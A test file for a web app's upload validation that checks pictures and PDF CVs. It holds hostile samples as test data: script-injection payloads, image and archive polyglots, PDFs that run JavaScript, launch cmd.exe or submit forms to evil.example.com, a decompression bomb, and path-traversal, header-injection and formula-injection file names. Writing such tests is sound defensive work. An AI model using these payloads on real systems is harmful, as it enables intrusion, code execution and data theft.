import { env } from 'cloudflare:test'
import { zlibSync } from 'fflate'
import { beforeAll, describe, expect, it } from 'vitest'
import { get, named, send } from '../test/sending'
import { answer, mentor, student, type Person } from '../test/world'
import { REFUSALS, type Refusal } from './refusals'
import * as s from './samples'

let ila: Person
let ravi: Person
beforeAll(async () => {
  ila = await student()
  ravi = await mentor()
})

const stored = async (who: Person): Promise<number> =>
  (await env.DB.prepare('select count(*) as n from files where owner_account_id = ?').bind(who.user.id).first('n')) ?? 0
const objects = async (): Promise<number> => (await env.FILES.list()).objects.length

const ZIP = s.bytes('PK\x03\x04', Array(26).fill(0), 'PK\x05\x06', Array(18).fill(0))
const SCRIPT = '<script>alert(document.cookie)</script>'
const HTML = s.bytes(`<!doctype html>${SCRIPT}`)
const SVG = s.bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)
const side = s.pixels(512)
const end = s.chunk('IEND')
const tables = [s.quantization, s.huffman]
const spoiled = (whole: Uint8Array<ArrayBuffer>, at: number, value: number): Uint8Array<ArrayBuffer> => {
  const copy = whole.slice()
  copy[at] = value
  return copy
}

const PICTURES: [string, Uint8Array<ArrayBuffer>, Refusal][] = [
  ['nothing at all', new Uint8Array(), 'empty'],
  ['one byte', s.bytes([0xff]), 'not_a_picture'],
  ['HTML named png', HTML, 'not_a_picture'],
  ['an SVG with a script', SVG, 'not_a_picture'],
  ['a GIF', s.bytes('GIF89a', Array(40).fill(0)), 'not_a_picture'],
  ['a GIF that is a script too', s.bytes('GIF89a/*', Array(40).fill(0), '*/=1;alert(1)'), 'not_a_picture'],
  ['an icon', s.bytes([0, 0, 1, 0, 1, 0, 16, 16], Array(40).fill(0)), 'not_a_picture'],
  ['a bitmap', s.bytes('BM', Array(60).fill(0)), 'not_a_picture'],
  ['a TIFF', s.bytes('II*\0', Array(60).fill(0)), 'not_a_picture'],
  ['a HEIC of a telephone', s.bytes([0, 0, 0, 24], 'ftypheic', Array(60).fill(0)), 'not_a_picture'],
  ['an AVIF', s.bytes([0, 0, 0, 24], 'ftypavif', Array(60).fill(0)), 'not_a_picture'],
  ['a ZIP', ZIP, 'not_a_picture'],
  ['a PDF', s.pdf(), 'not_a_picture'],
  ['a program', s.bytes('MZ', Array(100).fill(0)), 'not_a_picture'],
  ['a PNG behind a line of HTML', s.bytes(SCRIPT, s.png()), 'not_a_picture'],
  ['a PNG cut in its data', s.png().slice(0, 60), 'cut_off'],
  ['a PNG without an end', s.bytes(s.SIGNATURE, s.header(512, 512), side), 'cut_off'],
  ['a PNG without data', s.bytes(s.SIGNATURE, s.header(512, 512), end), 'cut_off'],
  ['a PNG with a wrong sum', spoiled(s.png(), 18, 1), 'cut_off'],
  ['a PNG whose chunk is longer than the file', spoiled(s.png(), 33, 0x7f), 'cut_off'],
  ['a PNG of no width', s.bytes(s.SIGNATURE, s.header(0, 512), side, end), 'cut_off'],
  ['a PNG with two headers', s.png(512, [s.header(512, 512)]), 'unusual'],
  ['a PNG whose data is no data', s.bytes(s.SIGNATURE, s.header(512, 512), s.chunk('IDAT', SCRIPT), end), 'cut_off'],
  ['a PNG of 100 megapixels', s.bytes(s.SIGNATURE, s.header(10_000, 10_000), side, end), 'too_many_pixels'],
  ['a PNG four billion pixels wide', s.bytes(s.SIGNATURE, s.header(0xffffffff, 1), side, end), 'too_many_pixels'],
  ['a PNG that is a ZIP too', s.bytes(s.png(), ZIP), 'attached'],
  ['a PNG with HTML at its end', s.bytes(s.png(), HTML), 'attached'],
  ['a PNG that moves', s.png(512, [s.chunk('acTL', Array(8).fill(1))]), 'animated'],
  ['a PNG with an order nobody knows', s.png(512, [s.chunk('EVIL', SCRIPT)]), 'unusual'],
  ['a PNG of 20,000 chunks', s.png(512, Array(20_000).fill(s.chunk('tEXt'))), 'unusual'],
  ['a JPEG cut in its pixels', s.jpeg().slice(0, -40), 'cut_off'],
  ['a JPEG of a start alone', s.bytes([0xff, 0xd8, 0xff]), 'cut_off'],
  ['a JPEG of filling alone', s.bytes([0xff, 0xd8], Array(5000).fill(0xff)), 'cut_off'],
  ['a JPEG with a part of no length', s.jpeg(512, [s.bytes([0xff, 0xe1, 0, 0])]), 'cut_off'],
  ['a JPEG whose part is longer than the file', s.bytes([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff], 'x'), 'cut_off'],
  ['a JPEG of 100 megapixels', s.jpeg(512, [s.frame(10_000, 10_000)]), 'too_many_pixels'],
  ['a JPEG that says its height later', s.jpeg(512, [s.frame(512, 0)]), 'cut_off'],
  ['a JPEG with two frames', s.jpeg(512, [s.frame(512, 512)]), 'unusual'],
  ['a JPEG in printing colours', s.jpeg(512, [s.frame(512, 512, 0xc0, 4)]), 'for_print'],
  ['a JPEG with arithmetic codes', s.jpeg(512, [s.frame(512, 512, 0xc9)]), 'unusual'],
  [
    'a JPEG of 500 scans',
    s.bytes([0xff, 0xd8], ...tables, s.frame(512, 512, 0xc2), ...Array(500).fill(s.scan(8, 8)), s.END),
    'unusual',
  ],
  ['a JPEG with a ZIP behind it', s.bytes(s.jpeg(), ZIP), 'attached'],
  ['a JPEG with a second one behind it', s.bytes(s.jpeg(), s.jpeg()), 'attached'],
  ['a JPEG with a web page behind it', s.bytes(s.jpeg(), HTML), 'attached'],
  [
    'a WebP that moves',
    s.riff(s.canvas(512, 512, 2), s.webpPart('ANIM', Array(6).fill(0)), s.lossless(512, 512)),
    'animated',
  ],
  ['a WebP of two pictures', s.riff(s.lossless(512, 512), s.lossless(512, 512)), 'cut_off'],
  ['a WebP of 268 megapixels', s.riff(s.lossless(16_383, 16_383)), 'too_many_pixels'],
  ['a WebP with a canvas of another size', s.riff(s.canvas(9, 9), s.lossless(512, 512)), 'cut_off'],
  ['a WebP longer than it says', s.bytes(s.webp(), 'more'), 'attached'],
  ['a WebP shorter than it says', s.webp().slice(0, -2), 'cut_off'],
  ['a sound in the same container', s.bytes('RIFF', [4, 0, 0, 0], 'WAVE'), 'not_a_picture'],
]

describe('a picture', () => {
  it.each(PICTURES)('is refused in plain words where it is %s, and nothing is kept', async (_, content, why) => {
    const before = await objects()
    const problem = await answer(send('/picture/', ila, { w512: named('me.png', content, 'image/png') }), 422)
    expect(problem).toMatchObject({ code: 'invalid_input', errors: { w512: [REFUSALS[why]] } })
    expect([await stored(ila), await objects()]).toEqual([0, before])
  })

  it.each([
    ['of another size than it should have', s.png(300)],
    ['no square', s.bytes(s.SIGNATURE, s.header(512, 300), side, end)],
  ])('is refused where it is %s', async (_, content) => {
    const problem = await answer(send('/picture/', ila, { w512: content }), 422)
    expect(problem.errors.w512[0]).toMatch('512 by 512 pixels')
  })

  const icc = s.jpegPart(0xe2, s.bytes('ICC_PROFILE\0\x01\x01', 'secret profile'))
  const HARMLESS: [string, Uint8Array<ArrayBuffer>, string][] = [
    ['a JPEG with the place where it was taken', s.jpeg(512, [s.jpegPart(0xe1, s.GPS)]), 'image/jpeg'],
    ['a JPEG that is a script too', s.jpeg(512, [s.jpegPart(0xfe, `*/=1;secret();/*${SCRIPT}`)]), 'image/jpeg'],
    [
      'a JPEG with everything a camera and an editor add',
      s.jpeg(512, [
        s.jpegPart(0xe1, 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>secret'),
        s.jpegPart(0xed, 'Photoshop 3.0\0secret'),
        s.jpegPart(0xe0, 'JFXX\0secret thumbnail'),
        icc,
      ]),
      'image/jpeg',
    ],
    [
      'a PNG with texts, a profile and EXIF',
      s.png(512, [
        s.chunk('tEXt', `Comment\0${SCRIPT} secret`),
        s.chunk('zTXt', s.bytes('x\0\0', zlibSync(s.ascii('secret')))),
        s.chunk('iTXt', 'XML:com.adobe.xmp\0\0\0\0\0secret'),
        s.chunk('eXIf', s.GPS),
        s.chunk('iCCP', 'secret\0\0'),
        s.chunk('prVt', HTML),
      ]),
      'image/png',
    ],
    [
      'a WebP with EXIF, XMP and a part of its own',
      s.riff(
        s.canvas(512, 512, 0x2c),
        s.webpPart('ICCP', 'secret'),
        s.lossless(512, 512),
        s.webpPart('EXIF', s.GPS),
        s.webpPart('XMP ', 'secret'),
        s.webpPart('evil', HTML),
      ),
      'image/webp',
    ],
  ]
  it.each(HARMLESS)('comes back harmless from %s', async (_, content, type) => {
    // The name and the type that the sender states are lies.
    const sent = named('../../me.html', content, 'text/html')
    const { picture_url } = await answer(send('/picture/', ravi, { w512: sent }), 200)
    const response = await get(picture_url)
    expect(response.headers.get('content-type')).toBe(type)
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-security-policy')).toMatch('sandbox')
    const text = String.fromCharCode(...new Uint8Array(await response.arrayBuffer()))
    expect(text).not.toMatch(/GPS|Exif|iPhone|secret|script|adobe|Photoshop|html/i)
    expect(text.length).toBeGreaterThan(20)
  })
})

const bomb = s.stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zlibSync(new Uint8Array(40 * 1024 * 1024)))
const twice = s.stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', '4142')
const PDFS: [string, Uint8Array<ArrayBuffer>, Refusal][] = [
  ['nothing at all', new Uint8Array(), 'empty'],
  ['a ZIP', ZIP, 'not_a_pdf'],
  ['a web page', HTML, 'not_a_pdf'],
  ['a picture', s.png(), 'not_a_pdf'],
  ['a program', s.bytes('MZ', s.pdf()), 'not_a_pdf'],
  ['a PDF behind a web page', s.bytes(HTML, s.pdf()), 'not_a_pdf'],
  ['a header alone', s.bytes('%PDF-1.7\n'), 'cut_off'],
  ['cut in the middle', s.pdf().slice(0, 300), 'cut_off'],
  ['without a catalogue', s.bytes('%PDF-1.7\n1 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF'), 'cut_off'],
  ['with a table elsewhere', s.bytes('%PDF-1.7\n/Root 1 0 R\nstartxref\n999999\n%%EOF'), 'cut_off'],
  ['with a web page behind it', s.bytes(s.pdf(), HTML), 'attached'],
  ['with a ZIP behind it', s.bytes(s.pdf(), ZIP), 'attached'],
  ['a ZIP inside a comment', s.pdf([...s.CV, s.stream('', ZIP)]), 'two_in_one'],
  ['locked', s.pdf(s.CV, '/Encrypt 9 0 R '), 'locked'],
  ['one that runs a script', s.pdf([...s.CV, '<< /S /JavaScript /JS (app.alert(1)) >>']), 'active'],
  ['one that hides its script behind escapes', s.pdf([...s.CV, '<< /S /#4aava#53cript /JS (1) >>']), 'active'],
  ['one that packs its script', s.pdf([...s.CV, s.packed('7 0 << /S /JavaScript /JS (1) >>')]), 'active'],
  ['one that hides that it packs', s.pdf([...s.CV, s.stream('/Type /Obj#53tm', 'x')]), 'active'],
  ['one that packs twice', s.pdf([...s.CV, twice]), 'active'],
  ['one that starts a program', s.pdf([...s.CV, '<< /S /Launch /F (cmd.exe) >>']), 'active'],
  ['one that sends a form', s.pdf([...s.CV, '<< /S /SubmitForm /F (https://evil.example.com) >>']), 'active'],
  ['one that asks a foreign host', s.pdf([...s.CV, '<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>']), 'active'],
  ['one that carries a file', s.pdf([...s.CV, s.stream('/Type /EmbeddedFile', 'MZ')]), 'active'],
  ['a bomb', s.pdf([...s.CV, bomb]), 'unusual_pdf'],
]

describe('a CV', () => {
  it.each(PDFS)('is refused in plain words where it is %s, and nothing is kept', async (_, content, why) => {
    const problem = await answer(send('/cv/', ila, { file: named('cv.pdf', content, 'application/pdf') }), 422)
    expect(problem).toMatchObject({ code: 'invalid_input', errors: { file: [REFUSALS[why]] } })
    expect(await stored(ila)).toBe(0)
  })

  it.each([
    ['../../../etc/passwd', 'passwd.pdf'],
    ['C:\\Users\\asha\\cv.exe', 'cv.pdf'],
    ['..\\..\\.htaccess', 'cv.pdf'],
    ['a%0D%0Aset-cookie: b=c', 'aset-cookie: b=c.pdf'],
    ['...', 'cv.pdf'],
    ['cv\u202efdp.exe', 'cvfdp.pdf'],
    ['a"; filename="b.html', 'a"; filename="b.pdf'],
    ['Lebenslauf Zoë Müller.PDF', 'Lebenslauf Zoë Müller.pdf'],
    ['मीरा का परिचय.pdf', 'मीरा का परिचय.pdf'],
    ['履歴書👩🏽‍🔬.pdf', '履歴書👩🏽‍🔬.pdf'],
    ['cv.pdf.html', 'cv.pdf.pdf'],
    [`${'long '.repeat(80)}.pdf`, `${'long '.repeat(20).trim()}.pdf`],
    ['%2e%2e%2fcv%00.pdf', '%2e%2e%2fcv%00.pdf'],
    ["=cmd|' /C calc'!A0.pdf", " C calc'!A0.pdf".trim()],
  ])('named %s is kept as %s and handed out as a download', async (name, kept) => {
    const file = await answer(
      send('/cv/', ravi, { file: named(name, s.pdf([...s.CV, `<< /N ${name.length} >>`])) }),
      201,
    )
    expect(file).toMatchObject({ name: kept, type: 'application/pdf' })
    const response = await get(file.url, ravi)
    const disposition = response.headers.get('content-disposition') ?? ''
    const [, ascii, exact] =
      /^attachment; filename="([\w. -]*)"; filename\*=UTF-8''([\w.~!%-]+)$/.exec(disposition) ?? []
    expect(ascii).toMatch(/\.pdf$/)
    expect(decodeURIComponent(exact ?? '')).toBe(kept)
    await response.arrayBuffer()
  })
})

describe('a form', () => {
  const sound = s.pdf()
  const CASES: [string, number, string, () => Promise<Response>][] = [
    ['without a file', 422, 'invalid_input', () => send('/cv/', ila, { nothing: '' })],
    ['with a text for a file', 422, 'invalid_input', () => send('/cv/', ila, { file: 'https://example.com/cv.pdf' })],
    ['with a field that nobody knows', 422, 'invalid_input', () => send('/cv/', ila, { file: sound, owner: 'me' })],
    [
      'with a caption where none is asked for',
      422,
      'invalid_input',
      () => send('/cv/', ila, { file: sound, caption: 'x' }),
    ],
    [
      'with a caption of 300',
      422,
      'invalid_input',
      () => send('/portfolio/', ila, { file: s.png(), caption: 'x'.repeat(300) }),
    ],
    [
      'of a byte too many',
      413,
      'body_too_large',
      () => send('/cv/', ila, { file: s.bytes(s.pdf(), Array(10_485_761 - s.pdf().length).fill(10)) }),
    ],
    ['much too large', 413, 'body_too_large', () => send('/cv/', ila, { file: new Uint8Array(12_000_000) })],
  ]
  it.each(CASES)('%s is refused', async (_, status, code, act) => {
    expect(await answer(act(), status)).toMatchObject({ code, status })
    expect(await stored(ila)).toBe(0)
  })
})
